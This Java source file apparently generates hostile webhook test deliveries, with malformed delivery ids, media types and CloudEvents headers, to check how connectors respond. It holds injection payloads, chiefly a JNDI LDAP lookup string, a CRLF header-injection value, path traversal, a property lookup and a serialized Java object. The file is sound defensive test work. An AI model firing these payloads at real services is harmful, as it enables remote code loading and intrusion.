package io.dovetail.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/** Delivery ids, media types and headers of CloudEvents that are no such thing. */
record Identifiers(Words words, Numbers numbers) {

    private static final Set<Ending> MAYBE = Ending.ANY;

    List<Attack> attacks() {
        var all = new ArrayList<Attack>();
        for (var template : Template.all()) {
            ids(template, all);
            media(template, all);
            cloudEvents(template, all);
        }
        return all;
    }

    private void ids(Template template, List<Attack> all) {
        for (var id : words.all()) {
            all.add(withId(template, id, MAYBE));
        }
        // of its own: a signed id may not come again with another body
        var letter = Character.toString('a' + Template.all().indexOf(template));
        for (var length : List.of(1, 255, 256)) {
            all.add(withId(template, letter.repeat(length), Ending.TAKEN_AGAIN));
        }
        for (var length : List.of(257, 1_000, 7_000)) {
            // who has no header for an id sends none
            all.add(withId(template, "l".repeat(length), MAYBE));
        }
    }

    private Attack withId(Template template, String id, Set<Ending> ends) {
        var number = numbers.next();
        return Attack.of(
                "delivery id",
                template.connector() + " " + id,
                ends,
                () -> template.sound(number).withId(id));
    }

    private void media(Template template, List<Attack> all) {
        for (var media : List.of(
                "text/plain",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "json",
                "*/*",
                "application/*",
                "application/jsonx",
                "xapplication/json",
                "application/json, text/xml",
                "text/html",
                "application/x-java-serialized-object",
                "application/yaml",
                "application/x-groovy",
                "application/octet-stream",
                "application/cloudevents+json",
                "application/cloudevents-batch+json",
                "application/json/x",
                ";",
                "/",
                "%{x}",
                "${jndi:ldap://" + words.somewhere().getAuthority() + "/a}",
                "a".repeat(3_000),
                "application/json\u00A0")) {
            var number = numbers.next();
            all.add(Attack.of(
                    "media",
                    template.connector() + " " + media,
                    Ending.REFUSAL,
                    () -> template.sound(number).withMedia(media).bent(HttpForm.of(sound -> sound))));
        }
        var number = numbers.next();
        all.add(Attack.of(
                "media",
                template.connector() + " serialised object",
                Ending.REFUSAL,
                () -> template.delivery(number, Words.serialised(new Bait[0]))
                        .withMedia("application/x-java-serialized-object")
                        .bent(HttpForm.of(sound -> sound))));
    }

    /** In this mode they would be the event; to a connector that does not speak it they are nothing. */
    private void cloudEvents(Template template, List<Attack> all) {
        for (var name : List.of(
                "ce-id",
                "ce-source",
                "ce-type",
                "ce-specversion",
                "ce-subject",
                "ce-time",
                "ce-dataschema",
                "ce-datacontenttype",
                "ce-partitionkey",
                "ce-traceparent",
                "cloudEvents:id",
                "cloudEvents_source",
                "ce_type")) {
            for (var value : List.of(
                    "1",
                    "",
                    "steered",
                    "%00",
                    "%0d%0aX: 1",
                    "../..",
                    words.somewhere().toString(),
                    "${sys.user.home}",
                    "x".repeat(2_000),
                    "\u00E9\u00E9")) {
                var number = numbers.next();
                all.add(Attack.of(
                        "cloud event",
                        template.connector() + " " + name + ": " + value,
                        Ending.TAKEN,
                        () -> template.sound(number).with(name, value)));
            }
        }
    }
}
